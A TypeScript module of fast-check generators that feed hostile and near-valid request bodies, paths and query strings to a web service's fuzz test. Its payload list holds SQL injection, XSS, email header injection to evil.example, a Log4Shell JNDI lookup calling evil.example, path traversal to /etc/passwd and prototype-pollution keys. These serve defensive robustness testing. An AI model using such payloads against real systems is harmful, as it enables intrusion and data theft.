import fc from 'fast-check';

/**
 * Generators of hostile and near-valid request bodies for the public-surface fuzz test
 * (test/public-fuzz.e2e-spec.ts): arbitrary JSON, and valid bodies bent in the ways
 * clients and bots bend them.
 */

/** Payloads that break naive code: SQL, HTML, header injection, format strings, odd Unicode. */
export const NASTY_STRINGS = [
  "'; DROP TABLE lead; --",
  "' OR '1'='1",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '\r\nBcc: x@evil.example',
  'alex@example.com\r\nBcc: x@evil.example',
  '%s%s%s%n',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '\u0000',
  'a\u0000b',
  '\u202eevil',
  '\u2028\u2029',
  '\ud800',
  '\udfff\ud800',
  'e\u0301',
  '🙂👩‍👩‍👧‍👦',
  'ｅｘａｍｐｌｅ＠ｅｘａｍｐｌｅ．ｃｏｍ',
  ' ',
  '',
  'null',
  'undefined',
  'true',
  '0',
  '-1',
  '1e309',
  '2026-02-30T25:61:61Z',
  'RI-7KQ2M9XD',
  'RI-0000000O',
  '__proto__',
  'constructor',
];

export const DANGEROUS_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
];

/** A value nested `depth` levels deep in objects and arrays. */
export const deeplyNested = (depth: number, leaf: unknown = 'x'): unknown => {
  let value = leaf;
  for (let level = 0; level < depth; level++) value = level % 2 ? [value] : { a: value };
  return value;
};

export const strings = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('x', 'é', '🙂', '<', "'"), fc.integer({ min: 200, max: 70_000 }))
      .map(([unit, length]) => unit.repeat(length)),
  },
);

/** Anything that can stand where a field's value was. */
export const anyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: strings },
  { weight: 2, arbitrary: fc.constantFrom(null, true, false, 0, -1, 1.5, 2 ** 31, 2 ** 53, -0) },
  {
    weight: 2,
    arbitrary: fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })),
  },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.array(strings, { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.dictionary(strings, strings, { maxKeys: 5 }) },
  {
    weight: 1,
    arbitrary: fc.integer({ min: 10, max: 40 }).map((depth) => deeplyNested(depth)),
  },
  { weight: 1, arbitrary: fc.integer({ min: 450, max: 600 }).map((n) => Array(n).fill(1)) },
);

type Path = (string | number)[];

function pathsOf(value: unknown, prefix: Path = []): Path[] {
  if (typeof value !== 'object' || value === null) return [];
  const entries = Array.isArray(value)
    ? value.map((item, index) => [index, item] as const)
    : Object.entries(value);
  return entries.flatMap(([key, item]) => [[...prefix, key], ...pathsOf(item, [...prefix, key])]);
}

const clone = (value: unknown): unknown => JSON.parse(JSON.stringify(value)) as unknown;

/** Sets an own, enumerable property, even one named `__proto__`. */
function setOwn(target: Record<string | number, unknown>, key: string | number, value: unknown) {
  Object.defineProperty(target, key, {
    value,
    enumerable: true,
    writable: true,
    configurable: true,
  });
}

function parentOf(root: unknown, path: Path): Record<string | number, unknown> | undefined {
  let node = root;
  for (const key of path.slice(0, -1)) {
    if (typeof node !== 'object' || node === null) return undefined;
    node = (node as Record<string | number, unknown>)[key];
  }
  return typeof node === 'object' && node !== null
    ? (node as Record<string | number, unknown>)
    : undefined;
}

type Mutation =
  | { kind: 'replace'; pick: number; value: unknown }
  | { kind: 'delete'; pick: number }
  | { kind: 'add'; pick: number; key: string; value: unknown };

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  {
    weight: 5,
    arbitrary: fc.record({
      kind: fc.constant('replace' as const),
      pick: fc.nat(),
      value: anyValue,
    }),
  },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('delete' as const), pick: fc.nat() }) },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('add' as const),
      pick: fc.nat(),
      key: fc.oneof(fc.constantFrom(...DANGEROUS_KEYS), fc.string({ maxLength: 12 })),
      value: anyValue,
    }),
  },
);

function applyMutation(body: unknown, change: Mutation): unknown {
  const paths = pathsOf(body);
  if (change.kind === 'add') {
    const objects: Path[] = [
      [],
      ...paths.filter((path) => {
        const parent = parentOf(body, [...path, 'x']);
        return parent !== undefined && !Array.isArray(parent);
      }),
    ];
    const target = objects[change.pick % objects.length]!;
    const parent = parentOf(body, [...target, change.key]);
    if (parent) setOwn(parent, change.key, change.value);
    return body;
  }
  if (paths.length === 0) return body;
  const path = paths[change.pick % paths.length]!;
  const parent = parentOf(body, path)!;
  const key = path.at(-1)!;
  if (change.kind === 'delete') {
    if (Array.isArray(parent)) parent.splice(Number(key), 1);
    else delete parent[key];
  } else {
    setOwn(parent, key, change.value);
  }
  return body;
}

/**
 * Near-valid bodies: a fresh valid one (from `valid`), bent by up to three mutations, or
 * (rarely) replaced by arbitrary JSON.
 */
export function nearValid(valid: () => Record<string, unknown>): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 2, arbitrary: fc.constant(null).map(() => valid()) },
    {
      weight: 12,
      arbitrary: fc
        .array(mutation, { minLength: 1, maxLength: 3 })
        .map((changes) => changes.reduce(applyMutation, clone(valid()))),
    },
    { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
    { weight: 1, arbitrary: anyValue },
  );
}

/** What goes on the wire: JSON as the client would send it, or something that is not JSON. */
export type Wire =
  | { kind: 'json'; body: unknown; idempotencyKey?: string }
  | { kind: 'raw'; contentType: string | undefined; text: string };

export function onTheWire(bodies: fc.Arbitrary<unknown>): fc.Arbitrary<Wire> {
  return fc.oneof(
    {
      weight: 20,
      arbitrary: fc.record(
        {
          kind: fc.constant('json' as const),
          body: bodies,
          idempotencyKey: fc.oneof(fc.string({ minLength: 1, maxLength: 8 }), strings),
        },
        { requiredKeys: ['kind', 'body'] },
      ),
    },
    {
      weight: 2,
      arbitrary: fc.record({
        kind: fc.constant('raw' as const),
        contentType: fc.constantFrom(
          'application/json',
          'application/json; charset=utf-8',
          'text/plain',
          'application/x-www-form-urlencoded',
          'application/problem+json',
          'APPLICATION/JSON',
          undefined,
        ),
        text: fc.oneof(
          fc.string({ maxLength: 60 }),
          fc.constantFrom(
            '{',
            '{"a":',
            '[1,]',
            'null',
            '""',
            '{"__proto__":{"x":1}}',
            '\u0000',
            'NaN',
          ),
          fc.jsonValue().map((value) => JSON.stringify(value).slice(0, -1)),
        ),
      }),
    },
  );
}

/** A path segment as a browser or a bot may send it: anything, percent-encoded. */
export const pathSegment: fc.Arbitrary<string> = fc
  .oneof(
    { weight: 3, arbitrary: strings },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        'couples',
        'individual',
        '1',
        '0',
        '-1',
        '99999999999',
        '1.5',
        '%',
        '..',
      ),
    },
  )
  .map((segment) =>
    segment === '' ? 'x' : encodeURIComponent(segment.replace(/\p{Cs}/gu, '\ufffd')),
  );

export const queryString: fc.Arbitrary<string> = fc.oneof(
  fc.constant(''),
  fc
    .array(fc.tuple(strings, strings), { maxLength: 4 })
    .map(
      (pairs) =>
        `?${new URLSearchParams(pairs.map(([k, v]) => [k.slice(0, 50), v.slice(0, 200)] as [string, string]))}`,
    ),
  fc.constantFrom('?a=1&a=2&a[b]=3', '?__proto__[x]=1', '?%zz', '?' + 'q='.repeat(500)),
);
